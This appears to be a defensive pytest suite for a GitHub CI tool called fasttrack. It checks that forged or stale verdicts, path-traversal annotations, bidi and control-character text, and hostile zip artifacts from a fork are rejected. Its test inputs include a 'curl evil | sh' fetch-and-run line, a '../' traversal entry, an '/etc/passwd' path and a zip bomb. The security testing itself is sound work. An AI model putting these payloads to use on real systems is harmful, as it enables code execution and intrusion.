"""Issue 18: stage 2 against a hostile fork, one attack per class, each against the fake GitHub on loopback
(assertions on the requests it received). Stage 1 runs the PR's own workflow, so the artifact, the verdict's
every string and even whether stage 1 succeeds are the attacker's."""

from __future__ import annotations

import io
import json
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest

from fasttrack.cli import main
from fasttrack.findings import Finding
from fasttrack.github.publish import LABEL_ELIGIBLE

KIMI = "vllm/model_executor/models/kimi_k3/fused_moe.py"
RUN_ID = 4242
APP_TOKEN = "ghs_fasttrack_app_installation"


def _run(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], *args: str
) -> tuple[int, str, str]:
    monkeypatch.setattr(sys, "argv", ["fasttrack", *args])
    code = 0
    try:
        main()
    except SystemExit as exc:
        code = int(exc.code or 0)
    out, err = capsys.readouterr()
    return code, out, err


def _zip(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _artifact(verdicts: Any, verdict: Any = None, meta: dict[str, Any] | None = None) -> dict[str, bytes]:
    v = verdict if verdict is not None else verdicts.make(verdicts.many(2))
    m = (
        meta
        if meta is not None
        else {"pr": verdicts.pr, "head_sha": verdicts.head, "base_sha": verdicts.base}
    )
    return {"verdict.json": v.model_dump_json().encode(), "pr.json": json.dumps(m).encode()}


@pytest.fixture
def stage2(fake_github: Any, pr_file: Any, verdicts: Any, monkeypatch: pytest.MonkeyPatch) -> Any:
    """The fake as stage 2 meets it: the PR (eligible from an earlier push), an App token for writes and
    Actions' token (actions: read) for the download."""
    fake_github.files = [pr_file(KIMI)]
    fake_github.labels = [LABEL_ELIGIBLE]
    fake_github.token = APP_TOKEN
    fake_github.download_token = verdicts.token
    monkeypatch.setenv("FASTTRACK_APP_TOKEN", APP_TOKEN)
    monkeypatch.setenv("ACTIONS_TOKEN", verdicts.token)
    return fake_github


def _args(fake: Any, verdicts: Any, *extra: str) -> list[str]:
    return [
        "github",
        "publish",
        "--github-repo",
        verdicts.repo,
        "--artifact-run-id",
        str(RUN_ID),
        "--head-sha",
        verdicts.head,
        "--head-label",
        fake.head_label,
        "--base-url",
        fake.web,
        "--token-env",
        "FASTTRACK_APP_TOKEN",
        "--artifact-token-env",
        "ACTIONS_TOKEN",
        "--comment-author",
        verdicts.bot,
        *extra,
    ]


def _writes(httpserver: Any) -> list[tuple[str, str, Any]]:
    out = []
    for req, _ in httpserver.log:
        if req.method in {"POST", "PATCH", "PUT", "DELETE"}:
            out.append((req.method, req.path.split("/engine", 1)[1], req.get_json(silent=True)))
    return out


def _only_a_failing_check(fake: Any, httpserver: Any, verdicts: Any, reason: str) -> None:
    """A rejection writes exactly: a failing check on the trusted head, the eligible label removed."""
    w = _writes(httpserver)
    assert [(m, p) for m, p, _ in w] == [
        ("POST", "/check-runs"),
        ("DELETE", f"/issues/{verdicts.pr}/labels/{LABEL_ELIGIBLE}"),
    ], w
    body = w[0][2]
    assert (
        body["head_sha"] == verdicts.head
        and body["conclusion"] == "failure"
        and body["status"] == "completed"
    )
    assert body["name"] == "fasttrack" and reason in body["output"]["summary"].replace("\\", "")
    assert fake.labels == [] and fake.comments == []  # no "blocked", no comment that reads as a verdict
    for req, _ in httpserver.log:
        if req.method != "GET":
            assert req.headers["Authorization"] == f"token {APP_TOKEN}"  # writes are the App's


# ---- a forgeable required check / stale state: stage 1 missing, failed or rejected ----


@pytest.mark.parametrize("conclusion", ["failure", "cancelled", "timed_out", "action_required", "skipped"])
def test_stage1_not_successful_posts_a_failing_check_and_drops_the_label(
    conclusion: str,
    stage2: Any,
    verdicts: Any,
    httpserver: Any,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Attack: the PR breaks stage 1 (or renames its job) so that no verdict exists; the eligible label of
    the previous push must not survive, and the required check must not be left to a forged one."""
    code, _, err = _run(monkeypatch, capsys, *_args(stage2, verdicts, "--stage1-conclusion", conclusion))
    assert code == 2
    _only_a_failing_check(stage2, httpserver, verdicts, f"concluded {conclusion!r}")
    assert not any("artifacts" in req.path for req, _ in httpserver.log)  # nothing downloaded
    assert "concluded" in err and len(err.splitlines()) == 1 and "::" not in err


def test_no_artifact_at_all_posts_a_failing_check(
    stage2: Any,
    verdicts: Any,
    httpserver: Any,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    code, _, _ = _run(monkeypatch, capsys, *_args(stage2, verdicts, "--stage1-conclusion", "success"))
    assert code == 2
    _only_a_failing_check(stage2, httpserver, verdicts, "stage 1 uploaded no verdict")


def test_artifact_for_another_head_writes_exactly_the_failing_check(
    stage2: Any,
    verdicts: Any,
    httpserver: Any,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Attack: replay a passing verdict of an earlier commit; before, nothing was written and the old pass
    (label, comment) stayed on the new head."""
    old = verdicts.make([], head="c" * 40)
    stage2.add_artifact(RUN_ID, _zip(_artifact(verdicts, old)))
    code, _, _ = _run(monkeypatch, capsys, *_args(stage2, verdicts))
    assert code == 2
    _only_a_failing_check(stage2, httpserver, verdicts, "the verdict is for commit")


def test_a_claim_on_another_pr_cannot_touch_that_pr(
    stage2: Any,
    verdicts: Any,
    httpserver: Any,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """pr.json names PR #8 (someone else's): GitHub has no PR #8 at this head, so the PR is found from the
    event's head label instead, and only this PR's label goes."""
    stage2.add_artifact(RUN_ID, _zip(_artifact(verdicts, meta={"pr": 8, "head_sha": verdicts.head})))
    code, _, _ = _run(monkeypatch, capsys, *_args(stage2, verdicts))
    assert code == 2
    assert not any(p.startswith("/issues/8") for _, p, _ in _writes(httpserver))
    _only_a_failing_check(stage2, httpserver, verdicts, "")


# ---- an inconsistent verdict ----


def test_a_pass_holding_errors_is_refused(
    stage2: Any,
    verdicts: Any,
    httpserver: Any,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Attack: `"verdict": "pass"` next to error findings; before, it was published as eligible."""
    forged = verdicts.make([Finding.error("FT101", "escapes confinement", path=KIMI, line=3)], verdict="pass")
    stage2.add_artifact(RUN_ID, _zip(_artifact(verdicts, forged)))
    code, _, err = _run(monkeypatch, capsys, *_args(stage2, verdicts))
    assert code == 2 and "inconsistent" in err
    _only_a_failing_check(stage2, httpserver, verdicts, "says 'pass' but it holds 1 error")


def test_a_consistent_artifact_publishes_through_the_api_download(
    stage2: Any,
    verdicts: Any,
    httpserver: Any,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    stage2.add_artifact(RUN_ID, _zip(_artifact(verdicts, verdicts.make([]))))
    code, out, err = _run(monkeypatch, capsys, *_args(stage2, verdicts))
    assert code == 0, err
    assert "eligible" in out and stage2.labels == [LABEL_ELIGIBLE]
    (run,) = stage2.check_runs.values()
    assert run["conclusion"] == "success"
    downloads = [req for req, _ in httpserver.log if "/actions/" in req.path]
    assert len(downloads) == 2 and all(
        r.headers["Authorization"] == f"token {verdicts.token}" for r in downloads
    )
    assert all(
        req.headers["Authorization"] == f"token {APP_TOKEN}"
        for req, _ in httpserver.log
        if req.method != "GET"
    )


# ---- annotations anywhere ----


def test_annotations_only_on_files_github_lists_for_the_pr(
    stage2: Any,
    verdicts: Any,
    httpserver: Any,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Attack: findings on `..`, absolute and untouched paths, to plant annotations on other files."""
    findings = [
        Finding.warning("FT102", "on the PR's file", path=KIMI, line=2),
        Finding.warning("FT102", "climbs out", path="vllm/../../.github/workflows/x.yml", line=1),
        Finding.warning("FT102", "absolute", path="/etc/passwd", line=1),
        Finding.warning("FT102", "untouched file", path="vllm/v1/core/sched/scheduler.py", line=9),
        Finding.warning("FT102", "backslashes", path="vllm\\..\\x.py", line=1),
    ]
    stage2.add_artifact(RUN_ID, _zip(_artifact(verdicts, verdicts.make(findings))))
    code, _, err = _run(monkeypatch, capsys, *_args(stage2, verdicts))
    assert code == 0, err
    (rid,) = stage2.check_runs
    assert [a["path"] for a in stage2.annotations[rid]] == [KIMI]
    summary = stage2.check_runs[rid]["output"]["summary"]
    assert "Not annotated:** 4 finding(s)" in summary
    for shown in ("/etc/passwd", "scheduler.py", "workflows/x.yml"):
        assert shown in summary


# ---- text that reads differently than it is ----


def test_bidi_zero_width_controls_and_references_are_shown_inert(
    stage2: Any,
    verdicts: Any,
    httpserver: Any,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    evil = (
        "safe\u202e yp.live \u200bhidden\x1b[2J see #12, acme/engine#3, GH-4 and @maintainers; "
        "https://evil.example\nsecond line"
    )
    findings = [Finding.warning("FT102", evil, path=KIMI, line=1, fix="\u2066fix\u2069 #99")]
    stage2.add_artifact(RUN_ID, _zip(_artifact(verdicts, verdicts.make(findings))))
    summary = tmp_path / "summary.md"
    code, _, err = _run(monkeypatch, capsys, *_args(stage2, verdicts, "--summary-file", str(summary)))
    assert code == 0, err
    (rid,) = stage2.check_runs
    (note,) = stage2.annotations[rid]
    texts = {
        "comment": stage2.comments[0]["body"],
        "check summary": stage2.check_runs[rid]["output"]["summary"],
        "step summary": summary.read_text(encoding="utf-8"),
        "annotation": note["message"] + " " + note.get("raw_details", ""),
    }
    for where, text in texts.items():
        for raw in ("\u202e", "\u2066", "\u2069", "\x1b", "\nsecond"):
            assert raw not in text, (where, raw)
        assert "\\u202e" in text and "\\x1b" in text and "\\x0asecond" in text, where
        for live in ("#12", "engine#3", "GH-4", "@maintainers", "https://", "#99"):
            assert live not in text, (where, live)
        assert "\\u200bhidden" in text, where  # the text's own zero-width space is shown


# ---- the write job's supply chain: the artifact inspected before anything is extracted ----


@pytest.mark.parametrize(
    ("case", "reason"),
    [
        ("bomb", "over the 8388608-byte cap"),
        ("ratio", "a zip bomb"),
        ("extra-entry", "not exactly verdict.json and pr.json"),
        ("traversal", "not exactly verdict.json and pr.json"),
        ("many", "entries, over the cap"),
        ("declared-huge", "declared"),
        ("not-zip", "not a readable zip"),
        ("deep-pr-json", "nests deeper than 64 levels"),
        ("big-pr-json", "over the 65536-byte cap"),
    ],
)
def test_hostile_zips_are_refused_before_extraction(
    case: str,
    reason: str,
    stage2: Any,
    verdicts: Any,
    httpserver: Any,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    files = _artifact(verdicts)
    size = None
    if case == "bomb":
        files["verdict.json"] = b" " * (40 << 20)  # 40 MiB of spaces: ~40 kB deflated
    elif case == "ratio":
        files["verdict.json"] = b"{" + b" " * (3 << 20) + b"}"
    elif case == "extra-entry":
        files["run.sh"] = b"curl evil | sh"
    elif case == "traversal":
        files = {"../verdict.json": files["verdict.json"], "pr.json": files["pr.json"]}
    elif case == "many":
        files.update({f"f{i}": b"x" for i in range(20)})
    elif case == "declared-huge":
        size = 10 << 30
    elif case == "deep-pr-json":
        files["pr.json"] = b"[" * 5000 + b"]" * 5000
    elif case == "big-pr-json":
        files["pr.json"] = json.dumps({"pr": 7, "pad": "x" * 70_000}).encode()
    data = b"PK\x03\x04 not a zip" if case == "not-zip" else _zip(files)
    stage2.add_artifact(RUN_ID, data, size=size)
    monkeypatch.chdir(tmp_path)
    code, _, err = _run(monkeypatch, capsys, *_args(stage2, verdicts))
    assert code == 2 and reason in err, err
    assert list(tmp_path.iterdir()) == []  # nothing extracted anywhere
    if case == "declared-huge":
        assert not any(req.path.endswith("/zip") for req, _ in httpserver.log)  # not even downloaded
    _only_a_failing_check(stage2, httpserver, verdicts, "")


# ---- the workflow's own publish script, run as the runner would ----


def _publish_script() -> str:
    from ruamel.yaml import YAML

    wf = YAML(typ="safe").load((ROOT / ".github/workflows/fasttrack-publish.yml").read_text(encoding="utf-8"))
    (step,) = [s for s in wf["jobs"]["publish"]["steps"] if "github publish" in str(s.get("run", ""))]
    return str(step["run"])


ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("conclusion", ["success", "failure"])
def test_the_workflow_script_publishes_and_fails_closed(
    conclusion: str, stage2: Any, verdicts: Any, httpserver: Any, tmp_path: Path
) -> None:
    """The publish step's bash, unchanged, with the env the workflow sets: its options exist, it publishes
    a good artifact as the App, and on a failed stage 1 it leaves exactly a failing check."""
    import os
    import subprocess

    stage2.author = "fasttrack-app[bot]"
    stage2.add_artifact(RUN_ID, _zip(_artifact(verdicts, verdicts.make([]))))
    venv_bin = tmp_path / "fasttrack-venv" / "bin"
    venv_bin.mkdir(parents=True)
    wrapper = venv_bin / "python"  # stands in for the venv the install step builds from the lock
    wrapper.write_text(f'#!/bin/sh\nexec "{sys.executable}" "$@"\n', encoding="utf-8")
    wrapper.chmod(0o755)
    env = dict(
        os.environ,
        FASTTRACK_APP_TOKEN=APP_TOKEN,
        ACTIONS_TOKEN=verdicts.token,
        APP_SLUG="fasttrack-app",
        REPO=verdicts.repo,
        RUN_ID=str(RUN_ID),
        CONCLUSION=conclusion,
        HEAD_SHA=verdicts.head,
        HEAD_LABEL=stage2.head_label,
        RUN_URL="https://example.invalid/run/1",
        SERVER_URL=stage2.web,
        PYTHONSAFEPATH="1",
        PYTHONPATH=str(ROOT),
        RUNNER_TEMP=str(tmp_path),
        GITHUB_STEP_SUMMARY=str(tmp_path / "summary.md"),
        GITHUB_ACTIONS="true",
    )
    env.pop("GITHUB_TOKEN", None)
    proc = subprocess.run(
        ["bash", "-euo", "pipefail", "-c", _publish_script()],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    if conclusion == "success":
        assert proc.returncode == 0, proc.stderr
        (run,) = stage2.check_runs.values()
        assert run["conclusion"] == "success" and stage2.labels == [LABEL_ELIGIBLE]
        assert stage2.comments[0]["user"]["login"] == "fasttrack-app[bot]"
    else:
        assert proc.returncode == 2 and len(proc.stderr.splitlines()) == 1, proc.stderr
        _only_a_failing_check(stage2, httpserver, verdicts, "concluded 'failure'")
